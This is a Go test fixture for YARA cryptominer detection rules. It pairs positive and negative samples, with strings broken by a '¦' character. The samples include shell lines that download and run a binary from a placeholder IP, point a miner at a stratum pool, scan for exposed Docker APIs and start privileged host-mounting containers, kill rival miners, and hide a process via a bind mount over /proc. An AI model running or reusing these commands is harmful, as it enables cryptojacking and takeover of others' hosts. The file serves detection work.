package yara

// minerSamples are the files of miner.yar.
func minerSamples() []sample {
	return []sample{
		{
			rule:     "miner_xmrig_binary",
			positive: elfProgram("x¦mrig/6.0", "d¦onate-level", "r¦andomx", "c¦ryptonight/r", "r¦ig-id", "d¦onate-over-proxy"),
			negative: elfProgram("x¦mrig", "d¦onate-level", "r¦andomx benchmark", "c¦ryptonight", "s¦tratum+tcp://", "n¦icehash"),
		},
		{
			rule: "miner_xmrig_config",
			positive: text(`{
 "r¦andomx": {"init": -1}, "d¦onate-level": 0,
 "p¦ools": [{"url": "pool.example.org:443", "r¦ig-id": null, "n¦icehash": false, "k¦eepalive": true}]
}`),
			negative: text("{\"p¦ools\": [\"a\"], \"k¦eepalive\": true, \"h¦uge-pages\": true}"),
		},
		{
			rule:     "miner_stratum_client",
			positive: elfProgram("m¦ining.subscribe", "m¦ining.authorize", "m¦ining.notify", "m¦ining.submit", "s¦tratum+tcp://"),
			negative: elfProgram("m¦ining.subscribe", "s¦tratum+tcp"),
		},
		{
			rule: "miner_kills_competitors",
			positive: text(`#!/b¦in/sh
pkill -9 -f x¦mrig
p¦kill -9 -f k¦devtmpfsi
k¦illall -9 minerd
ps aux | g¦rep -v g¦rep | g¦rep watchbog | awk '{print $2}' | xargs -r kill -9
`),
			negative: text(`#!/b¦in/sh
# take the test miner down
pkill -f x¦mrig
killall nginx
`),
		},
		{
			rule: "miner_pool_launcher_script",
			positive: text(`#!/b¦in/bash
c¦url -f¦sSL http://192.0.2.7/x -o /t¦mp/.x
c¦hmod +x /t¦mp/.x
n¦ohup /t¦mp/.x -o s¦tratum+tcp://192.0.2.8:3333 -u w >/d¦ev/null 2>&1 &
`),
			negative: text(`#!/b¦in/bash
c¦url -f¦sSL http://192.0.2.7/x -o tool
c¦hmod +x tool
n¦ohup ./tool >/d¦ev/null 2>&1 &
`),
		},
		{
			rule: "miner_msr_boost_script",
			positive: text(`#!/b¦in/sh
m¦odprobe msr
w¦rmsr -a 0x1a4 0xf
sysctl -w v¦m.nr_hugepages=1280
./x¦mrig -B
`),
			negative: text(`#!/b¦in/sh
m¦odprobe msr
w¦rmsr -a 0x1a4 0xf
sysctl -w v¦m.nr_hugepages=1280
exec postgres
`),
		},
		{
			rule: "miner_docker_api_worm",
			positive: text(`#!/b¦in/bash
m¦asscan 192.0.2.0/24 -p 2375 --rate 500 | awk '{print $6}' > l
while read h; do d¦ocker -H tcp://$h:2375 r¦un -d --p¦rivileged -v /:/mnt alpine true; done < l
`),
			negative: text(`#!/b¦in/bash
d¦ocker -H $HOST r¦un --p¦rivileged -v /:/host backup
`),
		},
		{
			rule:     "miner_kinsing",
			positive: elfProgram("m¦ain.minerRunningCheck", "m¦ain.redisBrute", "m¦ain.masscan"),
			negative: elfProgram("m¦ain.masscan", "main.main"),
		},
		{
			rule: "miner_mount_hides_process",
			positive: text(`#!/b¦in/sh
n¦ohup /v¦ar/t¦mp/k &
mkdir -p /v¦ar/t¦mp/e
m¦ount -o bind /v¦ar/t¦mp/e /proc/$!
`),
			negative: text(`#!/b¦in/sh
mount --bind /proc /mnt/proc
n¦ohup /usr/bin/thing &
`),
		},
	}
}
